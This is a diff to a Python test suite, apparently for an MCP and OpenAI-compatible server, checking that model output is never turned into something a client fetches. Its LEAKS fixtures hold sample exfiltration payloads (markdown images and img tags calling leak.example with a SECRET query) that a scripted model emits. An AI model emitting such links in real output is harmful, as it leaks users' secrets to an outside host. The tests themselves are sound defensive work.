@@ -2,8 +2,12 @@
 
 import json
 import random
+from collections.abc import Callable
+from functools import partial
 from html.parser import HTMLParser
+from typing import Any
 
+import openai
 import pytest
 from fastmcp.client.client import CallToolResult
 from generated import fitting
@@ -12,12 +16,11 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 from mcp_types import TextContent
 from scripted_ollama import Answer, Reply, Request, ScriptedOllama
-from serving import Place
+from serving import Place, served
 
-from planner.events import RunFinished
+from server import auth
+from server.app import build
 from server.views.inert import inert, inert_piece
-from server.views.markdown import Document
-from server.views.transcript import transcript
 
 pytestmark = pytest.mark.anyio
 
@@ -32,6 +35,7 @@ LEAKS = [
     "<img src='http://leak.example/?q=SECRET'>",
     "`a | ![i](http://leak.example/?q=SECRET) `",
 ]
+KEY = "0123456789abcdef"
 PARSERS = (MarkdownIt("commonmark"), MarkdownIt("commonmark").enable("table"))
 
 
@@ -94,12 +98,7 @@ def test_no_pieces_become_something_that_is_fetched(said: list[str]) -> None:
 
 async def test_no_view_of_a_run_is_fetched(place: Place) -> None:
     """A model that leaks in whatever it may write, seen by a client."""
-    chance = random.Random(0)
-
-    def leaking(request: Request) -> Reply:
-        return Answer(json.dumps(fitting(request.schema or {}, chance, LEAKS)), unconstrained=True)
-
-    with ScriptedOllama(handler=leaking) as place.ollama:
+    with ScriptedOllama(handler=leaking(random.Random(0))) as place.ollama:
         async with place.client() as caller:
             leaked = 0
             for number in range(8):
@@ -114,8 +113,35 @@ async def test_no_view_of_a_run_is_fetched(place: Place) -> None:
             assert leaked
 
 
-@pytest.mark.parametrize("leak", LEAKS)
-def test_no_answer_over_the_openai_api_is_fetched(leak: str) -> None:
-    event = RunFinished(status="partial", answer=f"It is {leak}", reason=leak)
-    assert not fetched(Document().tell(event))
-    assert not fetched(transcript("r", [event]))
+async def test_no_answer_over_the_openai_api_is_fetched(place: Place) -> None:
+    """In one piece and in many, each shown next to the one before."""
+    with (
+        ScriptedOllama(handler=leaking(random.Random(0))) as place.ollama,
+        served(build(place.settings, auth=auth.Tokens([KEY]))) as url,
+    ):
+        base = f"{url.removesuffix('/mcp')}/v1"
+        async with openai.AsyncOpenAI(base_url=base, api_key=KEY, max_retries=0) as client:
+            leaked = 0
+            for number in range(2):
+                asked: Any = [{"role": "user", "content": f"What is {number} and who says so?"}]
+                ask: Any = partial(client.chat.completions.create, model="planloom", messages=asked)
+                try:
+                    whole, stream = await ask(), await ask(stream=True)
+                except openai.InternalServerError:  # twice a reply that is none
+                    continue
+                in_one: list[Any] = [whole.choices[0].message]
+                in_many = [each.choices[0].delta async for each in stream]
+                for parts in (in_one, in_many):
+                    said = "".join(each.content or "" for each in parts)
+                    beside = [(each.model_extra or {}).get("reasoning_content") for each in parts]
+                    leaked += "leak.example" in said
+                    assert not fetched(said)
+                    assert not fetched("".join(filter(None, beside)))
+            assert leaked
+
+
+def leaking(chance: random.Random) -> Callable[[Request], Reply]:
+    """Says one of the `LEAKS` wherever it may say something."""
+    return lambda request: Answer(
+        json.dumps(fitting(request.schema or {}, chance, LEAKS)), unconstrained=True
+    )
